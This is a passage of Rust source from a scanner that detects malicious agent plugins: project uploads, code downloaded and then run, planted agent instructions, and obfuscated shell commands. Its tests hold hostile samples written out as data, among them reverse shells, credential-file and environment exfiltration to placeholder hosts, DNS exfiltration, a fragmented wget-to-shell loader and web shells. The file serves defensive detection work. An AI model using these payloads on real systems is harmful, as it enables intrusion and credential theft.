                    if out.len() >= 16 {
                        break;
                    }
                }
            }
            _ => {}
        }
    }
    out
}

/// The line that makes a download executable (`0o755`, `chmod +x`, `os.Chmod`), when
/// the file also downloads (`"curl"`, `"wget"`, an HTTP GET) and runs a program;
/// `lower` is `text` lowercased.
/// Records, for a unit of code just read (its evidence from `from` on), a send of data
/// to a host the code names, when the code also gathers the project's or the user's
/// files in bulk (`git ls-files`, a recursive glob or walk, an archive of a folder):
/// the workspace uploaded to the skill's author (`egress/project-upload`). A send to a
/// host the user chooses (a variable), to their own machine, or to the cloud storage
/// and forges users deploy to is not this.
pub fn record_project_upload(out: &mut Findings, from: usize, text: &str) {
    const GATHERS: [&str; 16] = [
        "git ls-files",
        "**/",
        "recursive=true",
        "os.walk(",
        ".rglob(",
        "walkdir",
        "filepath.walk",
        "-recurse ",
        "-recurse|",
        "make_archive(",
        "git bundle create",
        "git archive",
        "compress-archive",
        "zip -r",
        "tar czf",
        "tar -czf",
    ];
    let Some(upload) = out.evidence.get(from..).and_then(|new| {
        new.iter().position(|e| {
            let host = super::tables::split_url(&e.detail)
                .map(|(host, _)| host)
                .unwrap_or_default();
            e.tag.starts_with("egress/")
                && host.contains('.')
                && !host.contains(['$', '{', '<', '‹', '…'])
                && !super::tables::is_users_own_host(&host)
        })
    }) else {
        return;
    };
    let lower = text.to_ascii_lowercase();
    let Some(gathers) = GATHERS.iter().find(|g| lower.contains(**g)) else {
        return;
    };
    if out.evidence.len() >= MAX_EVIDENCE {
        return;
    }
    let mut uploaded = out.evidence[from + upload].clone();
    uploaded.tag = "egress/project-upload".into();
    uploaded.detail = format!(
        "gathers files in bulk (`{gathers}`) and sends data to {}",
        uploaded.detail
    );
    uploaded.source = None;
    uploaded.sink = None;
    out.evidence.push(uploaded);
}

/// Records a download made runnable and run in one file (any language, the evaluated
/// ones too): the program fetched, or unpacked from what was fetched, is one no one
/// read (`urlopen`, `tarfile.extractall`, `chmod(… | S_IEXEC)`, `Popen([hook])`).
/// `modelled`: the file is Python or JavaScript, whose own calls start programs.
pub fn record_download_run(out: &mut Findings, path: &str, text: &str, lower: &str, modelled: bool) {
    if let Some((index, line)) = download_made_runnable(text, lower, modelled) {
        behaviour_evidence(
            out,
            "exec/fetched",
            path,
            index + 1,
            line,
            "runs a program it downloads (a download, an executable mode, a run)".into(),
            None,
        );
    }
}

/// The line that makes a download executable, when the file downloads, makes a file
/// executable and runs a program; in Python and JavaScript (`modelled`) not a folder
/// created `0o755`, which is no program.
fn download_made_runnable<'t>(text: &'t str, lower: &str, modelled: bool) -> Option<(usize, &'t str)> {
    const DOWNLOADS: [&str; 11] = [
        "\"curl\"",
        "\"wget\"",
        "reqwest::",
        "ureq::get",
        "http.get(",
        "invoke-webrequest",
        "downloadfile(",
        "urlopen(",
        "urlretrieve(",
        "requests.get(",
        "https.get(",
    ];
    // `Command::new("chmod").args(["+x", &out])` spells the mode as its own argument.
    const RUNNABLE: [&str; 10] = [
        "0o755",
        "0o777",
        "0755",
        "chmod +x",
        "os.chmod(",
        "file.chmod(",
        "\"+x\"",
        "'+x'",
        "s_iexec",
        "chmodsync(",
    ];
    let downloads = has_any(lower, &FETCHES) || has_any(lower, &DOWNLOADS);
    // Python's and JavaScript's own ways to start a program (`platform.system()` is
    // not one).
    let runs = if modelled {
        has_any(
            lower,
            &[
                "subprocess.",
                "os.system(",
                "os.exec",
                "os.spawn",
                "popen(",
                "child_process",
                "execfilesync(",
            ],
        )
    } else {
        has_any(lower, &SINKS) || has_any(lower, &["command::new(", ".spawn("])
    };
    if !downloads || !runs {
        return None;
    }
    text.lines().enumerate().find(|(_, line)| {
        let lower = line.to_ascii_lowercase();
        // In Python and JavaScript a mode on a folder made is no program: the mode
        // must be a `chmod` or set on a file written (`createWriteStream(f, {mode})`).
        let on_a_file = lower.contains("chmod") || !lower.contains("mkdir") && !lower.contains("makedirs");
        !is_comment(line) && has_any(&lower, &RUNNABLE) && (!modelled || on_a_file)
    })
}

/// The line that opens another agent's instructions (`CLAUDE.md`, `.cursorrules`) for
/// writing, when the file's text plants a standing directive there; `lower` is `text`
/// lowercased.
fn writes_agent_instructions<'t>(text: &'t str, lower: &str) -> Option<(usize, &'t str)> {
    const WRITES: [&str; 11] = [
        "append(true)",
        "fs::write(",
        "os.writefile(",
        "os.openfile(",
        "file.write(",
        "file.open(",
        "file_put_contents(",
        "writefile(",
        "add-content",
        "set-content",
        "io.open(",
    ];
    if !has_any(lower, &WRITES) || !super::effects::planted(text) {
        return None;
    }
    text.lines().enumerate().find(|(_, line)| {
        !is_comment(line)
            && string_literals(line).iter().any(|l| {
                matches!(
                    super::tables::agent_config_kind(l),
                    Some("memory" | "project-instructions")
                )
            })
    })
}

/// The first line that evaluates a string as code within [`WINDOW`] lines of a download.
fn fetch_then_eval(text: &str) -> Option<(usize, &str)> {
    first_near(
        text,
        |_, lower| FETCHES.iter().any(|f| lower.contains(f)),
        |_, lower| {
            let trimmed = lower.trim_start();
            CODE_EVALS.iter().any(|e| {
                if *e == "eval " {
                    trimmed.starts_with(e)
                } else {
                    lower.contains(e)
                }
            })
        },
    )
}

/// The first line that runs a program named by a value (`exec.Command(d.Argv[0], …)`,
/// `Command::new(&cmd)`, `system(cmd)`), within [`WINDOW`] lines after a download: a
/// server's reply chooses what runs (an agent's "directives").
fn fetch_then_command(text: &str) -> Option<(usize, &str)> {
    const RUNS: [&str; 5] = [
        "exec.command(",
        "exec.commandcontext(",
        "command::new(",
        "system(",
        "spawn(",
    ];
    let mut fetched_at: Option<usize> = None;
    for (index, line) in text.lines().enumerate() {
        if line.len() > 4096 || is_comment(line) {
            continue;
        }
        let lower = line.to_ascii_lowercase();
        // `URI.parse` names an address; it fetches nothing.
        if FETCHES
            .iter()
            .filter(|f| **f != "uri.parse(")
            .any(|f| lower.contains(f))
        {
            fetched_at = Some(index);
            continue;
        }
        if fetched_at.is_none_or(|at| index - at > WINDOW) {
            continue;
        }
        let named_by_value = RUNS.iter().any(|run| {
            lower.find(run).is_some_and(|i| {
                let arg = line[i + run.len()..].trim_start();
                // `exec.CommandContext(ctx, x)` names the program second.
                let arg = if *run == "exec.commandcontext(" {
                    arg.split_once(',').map_or("", |(_, rest)| rest.trim_start())
                } else {
                    arg
                };
                arg.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_' || c == '&')
            })
        });
        if named_by_value {
            return Some((index, line));
        }
    }
    None
}

/// The first line that hands a shell a command, within [`WINDOW`] lines of a table of
/// at least eight string fragments of at most four characters, some of them holding
/// the punctuation of a command line (` `, `/`, `|`, `-`, `:`, `.`): not an alphabet
/// or a list of unit names.
fn fragments_to_shell(text: &str) -> Option<(usize, &str)> {
    first_near(
        text,
        |line, _| {
            let literals = string_literals(line);
            literals.len() >= 8
                && literals.iter().all(|l| !l.is_empty() && l.chars().count() <= 4)
                && literals
                    .iter()
                    .filter(|l| l.contains([' ', '/', '|', '-', ':', '.']))
                    .count()
                    >= 3
        },
        |_, lower| SINKS.iter().any(|s| lower.contains(s)),
    )
}

/// The first line (index, text) that `is_target` accepts, once a line `is_anchor`
/// accepts is within [`WINDOW`] lines of it: the latest anchor before it, or one up
/// to [`WINDOW`] lines after. Comments and over-long lines are skipped; both tests are
/// given the line and its lowercase.
fn first_near(
    text: &str,
    is_anchor: impl Fn(&str, &str) -> bool,
    is_target: impl Fn(&str, &str) -> bool,
) -> Option<(usize, &str)> {
    let mut anchor: Option<usize> = None;
    let mut target: Option<(usize, &str)> = None;
    for (index, line) in text.lines().enumerate() {
        if line.len() > 4096 || is_comment(line) {
            continue;
        }
        let lower = line.to_ascii_lowercase();
        if is_anchor(line, &lower) {
            anchor = Some(index);
        }
        if target.is_none() && is_target(line, &lower) {
            target = Some((index, line));
        }
        if let (Some(a), Some((t, _))) = (anchor, target)
            && a.abs_diff(t) <= WINDOW
        {
            return target;
        }
    }
    None
}

/// The closing bracket of a word array opened on `line` and not closed there
/// (`GLOBS = %w[` on its own line, its words on the lines below).
fn unclosed_word_array(line: &str) -> Option<char> {
    // (`qw/…/` never counts: its opener holds its own closing slash.)
    WORD_ARRAYS.iter().find_map(|opener| {
        let at = line.rfind(opener)?;
        let close = word_array_close(opener);
        (!line[at..].contains(close)).then_some(close)
    })
}

/// A word array whose pieces spell a method that runs code (`%w[s y s t e m]`,
/// `%W[sy st em]`), on a line that joins it: the line, and the name.
fn spelled_method(text: &str) -> Option<(usize, &str, String)> {
    const RUNS_CODE: [&str; 10] = [
        "system",
        "eval",
        "exec",
        "spawn",
        "popen",
        "syscall",
        "instance_eval",
        "class_eval",
        "load",
        "require",
    ];
    text.lines().enumerate().find_map(|(index, line)| {
        if line.len() > 4096 || !line.contains(".join") {
            return None;
        }
        WORD_ARRAYS
            .iter()
            .find_map(|opener| {
                let at = line.find(opener)?;
                let rest = &line[at + opener.len()..];
                let words = rest.split(word_array_close(opener)).next()?;
                // Pieces of any size (`%w[sy st em]`), joined.
                let pieces: Vec<&str> = words.split_whitespace().collect();
                (pieces.len() >= 2).then(|| pieces.concat())
            })
            .filter(|name| RUNS_CODE.contains(&name.to_ascii_lowercase().as_str()))
            .map(|name| (index, line, name))
    })
}

/// How Ruby's and Perl's word arrays open (`%w[`, `qw(`).
const WORD_ARRAYS: [&str; 10] = ["%w[", "%w(", "%i[", "%w{", "%W[", "%W(", "qw(", "qw[", "qw{", "qw/"];

/// The character that closes a word array opened with `opener`.
fn word_array_close(opener: &str) -> char {
    match opener.as_bytes().last() {
        Some(b'[') => ']',
        Some(b'(') => ')',
        Some(b'{') => '}',
        _ => '/',
    }
}

/// Whether a line names what to leave out (`EXCLUDE = …`, `--ignore`, `skip:`).
fn excludes(line: &str) -> bool {
    has_any(
        &line.to_ascii_lowercase(),
        &["exclude", "ignore", "skip", "deny", "reject", "blocklist"],
    )
}

/// A glob that matches every dotenv file (`*.env`, `.env*`, `**/.env.*`): a search
/// for secrets, in a file that also sends.
fn is_env_glob(literal: &str) -> bool {
    let name = literal.rsplit('/').next().unwrap_or(literal);
    name.contains('*') && (name.starts_with(".env") || name.ends_with(".env"))
}

/// The quoted strings of one line (`'…'`, `"…"`, `` `…` ``), escapes left as written,
/// and the words of Ruby's `%w[…]` and Perl's `qw(…)` lists.
fn string_literals(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    for opener in WORD_ARRAYS {
        for (at, _) in line.match_indices(opener) {
            let rest = &line[at + opener.len()..];
            let close = word_array_close(opener);
            let words = rest.split(close).next().unwrap_or(rest);
            out.extend(words.split_whitespace().map(str::to_string));
        }
    }
    let mut quote: Option<char> = None;
    let mut current = String::new();
    let mut escaped = false;
    for c in line.chars() {
        match quote {
            Some(_) if escaped => {
                current.push(c);
                escaped = false;
            }
            Some(_) if c == '\\' => escaped = true,
            Some(q) if c == q => {
                out.push(std::mem::take(&mut current));
                quote = None;
            }
            Some(_) => current.push(c),
            None if matches!(c, '"' | '\'' | '`') => quote = Some(c),
            None => {}
        }
    }
    out
}

/// Pushes one piece of evidence at a whole line; its index, unless the skill has
/// shown [`MAX_EVIDENCE`] already.
fn behaviour_evidence(
    out: &mut Findings,
    tag: &str,
    file: &str,
    line: usize,
    line_text: &str,
    detail: String,
    source: Option<usize>,
) -> Option<usize> {
    if out.evidence.len() >= MAX_EVIDENCE {
        return None;
    }
    let column = line_text.len() - line_text.trim_start().len() + 1;
    out.evidence.push(Evidence {
        tag: tag.to_string(),
        file: file.to_string(),
        line: u32::try_from(line).unwrap_or(u32::MAX),
        column: u32::try_from(column).unwrap_or(1),
        excerpt: excerpt(line_text.trim()),
        detail,
        quoted: None,
        source,
        sink: None,
    });
    Some(out.evidence.len() - 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn byte_tables_are_read_in_one_pass_over_any_brackets() {
        // Every opening bracket and no closing one, over lines: nothing, and no rescans.
        let brackets = "[{\n".repeat(400_000);
        assert_eq!(keyed_byte_table(&brackets), None);
        let nested = format!("{}{}", "[".repeat(1_000_000), "\n]".repeat(1_000_000));
        assert_eq!(keyed_byte_table(&nested), None);
    }

    #[test]
    fn a_socket_beside_a_command_sink_is_a_channel_in_any_language() {
        let php =
            "<?php\n$s = fsockopen('203.0.113.5', 1337);\n$p = proc_open('/bin/sh -i', [0=>$s,1=>$s,2=>$s], $pipes);\n";
        assert!(find(php).is_some());
        let ruby =
            "s = TCPSocket.new(relay, 8443)\nwhile line = s.gets\n  IO.popen(line) { |io| s.write(io.read) }\nend\n";
        assert!(find(ruby).is_some());
        let go = "conn, _ := net.DialTimeout(\"tcp\", peer, time.Second)\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin = conn\n";
        assert!(find(go).is_some());
        let awk = "BEGIN { svc = \"/inet/tcp/0/203.0.113.77/8080\"\n while ((svc |& getline cmd) > 0) { while ((cmd | getline line) > 0) print line |& svc } }\n";
        assert!(find(awk).is_some());
        let web = "$task = base64_decode( $_SERVER['HTTP_X_TASK'] ?? '' );\n$p = proc_open( $task, [1 => ['pipe', 'w']], $pipes );\n";
        assert!(find(web).is_some());
    }

    #[test]
    fn a_secret_file_and_a_send_in_one_unmodelled_file_are_read_and_sent() {
        let ruby = "require 'net/http'\nkey = File.read(File.join(Dir.home, '.aws', 'credentials'))\nNet::HTTP.post(URI(relay), key)\n";
        let mut out = Findings::default();
        record_unmodelled(&mut out, "sync.rb", ruby);
        let tags: Vec<&str> = out.evidence.iter().map(|e| e.tag.as_str()).collect();
        assert_eq!(tags, ["secret-read/cloud-credentials", "egress/http"]);
        let perl =
            "my $dump = `rclone config dump`;\nmy $ua = LWP::UserAgent->new;\n$ua->post($health, Content => $dump);\n";
        let mut out = Findings::default();
        record_unmodelled(&mut out, "health.pl", perl);
        let tags: Vec<&str> = out.evidence.iter().map(|e| e.tag.as_str()).collect();
        assert_eq!(tags, ["secret-read/cli-credentials", "egress/http"]);
        let rake = "src = File.read(__FILE__).split(/^__END__$/, 2).last\nTOPLEVEL_BINDING.receiver.instance_eval(Zlib::Inflate.inflate(src.unpack1(\"m\")))\n";
        let mut out = Findings::default();
        record_unmodelled(&mut out, "audit.rake", rake);
        let tags: Vec<&str> = out.evidence.iter().map(|e| e.tag.as_str()).collect();
        assert_eq!(tags, ["exec/decoded"]);
        let go = "body, _ := json.Marshal(os.Environ())\nhttp.Post(collector, \"application/json\", bytes.NewReader(body))\n";
        let mut out = Findings::default();
        record_unmodelled(&mut out, "main.go", go);
        assert_eq!(out.evidence.len(), 2);
        // A secret with no send, and a send with no secret, are nothing.
        let mut out = Findings::default();
        record_unmodelled(&mut out, "a.rb", "puts File.exist?('~/.ssh/id_rsa')\n");
        record_unmodelled(&mut out, "b.go", "http.Post(url, \"text/plain\", r)\n");
        assert!(out.evidence.is_empty());
    }

    #[test]
    fn code_downloaded_and_evaluated_in_ruby_is_run_and_a_download_parsed_as_json_is_not() {
        let ruby = "require \"net/http\"\ndef fetch(path)\n  Net::HTTP.get(URI.join(HOST, path))\nend\ncode = fetch(\"/cops/team.rb\")\neval(code, TOPLEVEL_BINDING, \"team_cops.rb\")\n";
        let mut out = Findings::default();
        record_unmodelled(&mut out, "style_sync.rb", ruby);
        let tags: Vec<&str> = out.evidence.iter().map(|e| e.tag.as_str()).collect();
        assert_eq!(tags, ["exec/fetched"]);
        let ruby = "require \"net/http\"\nrelease = JSON.parse(Net::HTTP.get(URI(\"https://api.github.com/repos/a/b/releases/latest\")))\nputs release[\"tag_name\"]\n";
        let mut out = Findings::default();
        record_unmodelled(&mut out, "check.rb", ruby);
        assert!(out.evidence.is_empty());
    }

    #[test]
    fn a_go_client_post_is_a_send_and_a_command_from_a_fragment_table_is_computed() {
        let go = "home, _ := os.UserHomeDir()\nkc := filepath.Join(home, \".kube\", \"config\")\nc := &http.Client{}\nc.Post(registry(), \"application/json\", bytes.NewReader(body))\n";
        let mut out = Findings::default();
        record_unmodelled(&mut out, "main.go", go);
        let tags: Vec<&str> = out.evidence.iter().map(|e| e.tag.as_str()).collect();
        assert_eq!(tags, ["secret-read/cloud-credentials", "egress/http"]);
        let go = "var hints = []string{\"bin\", \"wge\", \" ht\", \"/ba\", \"t -\", \"sh \", \"| /\", \"tp:\", \"O -\"}\nfunc init() {\n\tfor _, i := range order { b.WriteString(hints[i]) }\n\t_ = exec.Command(\"/bin/sh\", \"-c\", b.String()).Start()\n}\n";
        let mut out = Findings::default();
        record_unmodelled(&mut out, "proxy.go", go);
        let tags: Vec<&str> = out.evidence.iter().map(|e| e.tag.as_str()).collect();
        assert_eq!(tags, ["exec/computed"]);
        // An alphabet, or unit names, beside a shell call are not a command in pieces.
        let go = "var units = []string{\"B\", \"KB\", \"MB\", \"GB\", \"TB\", \"PB\", \"EB\", \"ZB\"}\nout, _ := exec.Command(\"sh\", \"-c\", \"du -sk .\").Output()\n";
        let mut out = Findings::default();
        record_unmodelled(&mut out, "size.go", go);
        assert!(out.evidence.is_empty());
    }

    #[test]
    fn a_request_parameter_run_as_a_command_is_a_web_shell_a_socket_beside_a_subprocess_is_not() {
        let go = "func debugExec(w http.ResponseWriter, r *http.Request) {\n\tout, _ := exec.Command(\"/bin/sh\", \"-c\", r.URL.Query().Get(\"q\")).CombinedOutput()\n\tw.Write(out)\n}\n";
        assert!(find(go).is_some());
        let flask = "@app.post('/run')\ndef run():\n    cmd = request.get_json()['cmd']\n    return subprocess.check_output(cmd, shell=True)\n";
        assert!(find(flask).is_some());
        // A free port found with a socket, then a server started: ordinary tooling.
        let port = "s = socket.socket()\ns.bind(('', 0))\nport = s.getsockname()[1]\ns.close()\nsubprocess.run(['npm', 'run', 'dev', '--', '--port', str(port)])\n";
        assert!(find(port).is_none());
    }

    #[test]
    fn word_lists_and_name_lookups_are_read_in_unmodelled_languages() {
        let ruby = "hist = %w[.bash_history .zsh_history].map { |f| File.join(Dir.home, f) }\nNet::HTTP.post_form(API, 'api_paste_code' => hist.join)\n";
        let mut out = Findings::default();
        record_unmodelled(&mut out, "share.rb", ruby);
        let tags: Vec<&str> = out.evidence.iter().map(|e| e.tag.as_str()).collect();
        assert_eq!(tags, ["secret-read/shell-history", "egress/http"]);
        let go = "var files = []string{\".npmrc\", \".netrc\"}\nfunc warm(label string) { net.LookupHost(label + \".m.probe.example\") }\n";
        let mut out = Findings::default();
        record_unmodelled(&mut out, "cache.go", go);
        let tags: Vec<&str> = out.evidence.iter().map(|e| e.tag.as_str()).collect();
        assert_eq!(tags, ["secret-read/dev-credentials", "egress/dns"]);
    }

    #[test]
    fn a_socket_far_from_any_sink_or_a_commented_one_is_not() {
        let far = format!(
            "s = TCPSocket.new(h, 80)\n{}system('make')\n",
            "x = 1\n".repeat(WINDOW + 1)
        );
        assert!(find(&far).is_none());
        let commented = "# fsockopen($h, 80) then proc_open(...)\n// new Socket(h) and ProcessBuilder\n";
        assert!(find(commented).is_none());
        let server = "srv = TCPServer.new(8080)\nloop { c = srv.accept; c.puts 'ok' }\n";
        assert!(find(server).is_none());
    }
}
